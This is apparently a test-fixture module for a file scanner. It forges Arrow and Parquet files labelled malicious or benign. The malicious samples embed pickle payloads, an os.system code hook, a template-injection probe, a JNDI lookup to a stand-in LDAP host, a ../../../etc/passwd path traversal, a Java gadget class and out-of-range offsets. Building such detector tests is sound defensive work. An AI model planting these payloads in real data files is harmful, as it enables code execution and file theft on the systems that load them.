"""Parquet and Arrow files, honest and not."""

from __future__ import annotations

import base64
import json
import struct
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.forges._format_writers import Flat, constant, flatbuffer, thrift
from stannary.testing.forges.tensors import _PICKLE as PICKLE


def _message(table: Flat, body: bytes = b"") -> bytes:
    raw = flatbuffer(table)
    raw += bytes(-len(raw) % 8)
    return struct.pack("<II", 0xFFFFFFFF, len(raw)) + raw + body


def _schema(*, field: dict[str, bytes] | None = None, metadata: dict[str, str] | None = None) -> Flat:
    column: Flat = {0: "x", 2: ("B", 2), 3: {0: ("i", 64), 1: ("B", 1)}}
    if field:
        column[6] = [{0: k, 1: v} for k, v in field.items()]
    schema: Flat = {1: [column]}
    if metadata:
        schema[2] = [{0: k, 1: v} for k, v in metadata.items()]
    return schema


def _stream(schema: Flat, *, tail: bytes = b"") -> bytes:
    return _message({0: ("h", 4), 1: ("B", 1), 2: schema}) + struct.pack("<II", 0xFFFFFFFF, 0) + tail


def _file(schema: Flat) -> bytes:
    body = b"ARROW1\0\0" + _stream(schema)
    footer = flatbuffer({0: ("h", 4), 1: schema})
    return body + footer + struct.pack("<i", len(footer)) + b"ARROW1"


_PICKLED = {"ARROW:extension:name": b"arrow.py_extension_type", "ARROW:extension:metadata": PICKLE}
_ARROW: dict[str, tuple[bytes, bool | None]] = {
    "plain": (_file(_schema(metadata={"pandas": json.dumps({"columns": [{"name": "x"}]})})), False),
    "stream": (_stream(_schema()), False),
    "known_extension": (_file(_schema(field={"ARROW:extension:name": b"arrow.uuid", "ARROW:extension:metadata": b""})), False),
    "pickle_type": (_file(_schema(field=_PICKLED)), True),
    "pickle_type_stream": (_stream(_schema(field=_PICKLED)), True),
    "pickle_other_name": (_file(_schema(field={**_PICKLED, "ARROW:extension:name": b"acme.type"})), True),
    "metadata_code": (_file(_schema(metadata={"hook": "__import__('os').system('echo stannary')"})), True),
    "metadata_template": (_file(_schema(metadata={"prompt": "{{ ''.__class__ }}"})), True),
    "trailing": (_stream(_schema(), tail=PICKLE), True),
    "outside": (struct.pack("<II", 0xFFFFFFFF, 1 << 30) + bytes(64), True),
    "footer": (_file(_schema())[:-10] + struct.pack("<i", 1 << 30) + b"ARROW1", True),
    "truncated": (_file(_schema())[:-12], None),
}
for _name, (_content, _bad) in _ARROW.items():
    forge(f"arrow.{_name}", filename="data.arrow", family="Arrow", malicious=_bad)(constant(_content))


def _parquet(
    metadata: dict[str, bytes], *, column: dict[int, Any] | None = None, footer_size: int | None = None, magic: bytes = b"PAR1"
) -> bytes:
    body = b"PAR1" + bytes(32)
    chunk = column or {2: 4, 3: {5: 3, 6: 32, 7: 32, 9: 4}}
    footer = {1: 2, 2: [{4: b"schema"}, {4: b"x"}], 3: 3, 4: [{1: [chunk], 2: 32, 3: 3}], 6: b"stannary"}
    if metadata:
        footer[5] = [{1: k.encode(), 2: v} for k, v in metadata.items()]
    raw = thrift(footer)
    return body + raw + struct.pack("<I", len(raw) if footer_size is None else footer_size) + magic


def column_of(*values: bytes) -> bytes:
    """Return a table with one column of bytes: a page of plain values, not compressed."""
    plain = b"".join(struct.pack("<I", len(v)) + v for v in values)
    page = thrift({1: 0, 2: len(plain), 3: len(plain), 5: {1: len(values), 2: 0, 3: 3, 4: 3}}) + plain
    chunk = {2: 4, 3: {1: 6, 2: [0], 3: [b"x"], 4: 0, 5: len(values), 6: len(page), 7: len(page), 9: 4}}
    footer = thrift(
        {1: 2, 2: [{4: b"schema"}, {4: b"x"}], 3: len(values), 4: [{1: [chunk], 2: len(page), 3: len(values)}], 6: b"stannary"}
    )
    return b"PAR1" + page + footer + struct.pack("<I", len(footer)) + b"PAR1"


def _embedded(schema: Flat) -> bytes:
    return base64.b64encode(_message({0: ("h", 4), 1: ("B", 1), 2: schema}))


_AVRO = json.dumps(
    {"type": "record", "name": "r", "fields": [{"name": "x", "type": {"type": "string", "java-class": "javax.swing.JEditorPane"}}]}
).encode()
_AVRO_PLAIN = json.dumps(
    {"type": "record", "name": "r", "fields": [{"name": "x", "type": {"type": "string", "java-class": "java.math.BigDecimal"}}]}
).encode()
_PARQUET: dict[str, tuple[bytes, bool | None]] = {
    "plain": (_parquet({"pandas": b'{"columns": []}', "ARROW:schema": _embedded(_schema())}), False),
    "pickle_type": (_parquet({"ARROW:schema": _embedded(_schema(field=_PICKLED))}), True),
    "java_class": (_parquet({"parquet.avro.schema": _AVRO}), True),
    "java_plain": (_parquet({"parquet.avro.schema": _AVRO_PLAIN}), False),
    "metadata_pickle": (_parquet({"state": base64.b64encode(PICKLE)}), True),
    "metadata_template": (_parquet({"prompt": b"{{ ''.__class__ }}"}), True),
    "jndi": (_parquet({"author": b"${jndi:ldap://example.invalid/x}"}), True),
    "pickle_in_column": (column_of(b"x" * 40, PICKLE, b"y" * 40), True),
    "bytes_in_column": (column_of(b"x" * 40, b"\x80\x04", b"c" * 40), False),
    "reference": (_parquet({}, column={1: b"../../../etc/passwd", 2: 4}), True),
    "reference_plain": (_parquet({}, column={1: b"part-0.parquet", 2: 4}), False),
    "outside": (_parquet({}, column={2: 4, 3: {5: 3, 6: 32, 7: 1 << 40, 9: 4}}), True),
    "footer": (_parquet({}, footer_size=1 << 31), True),
    "encrypted": (_parquet({}, magic=b"PARE"), None),
    "truncated": (_parquet({})[:-6], None),
    "footer_garbage": (b"PAR1" + b"\xff" * 64 + struct.pack("<I", 64) + b"PAR1", None),
}
for _name, (_content, _bad) in _PARQUET.items():
    forge(f"parquet.{_name}", filename="data.parquet", family="Parquet", malicious=_bad)(constant(_content))
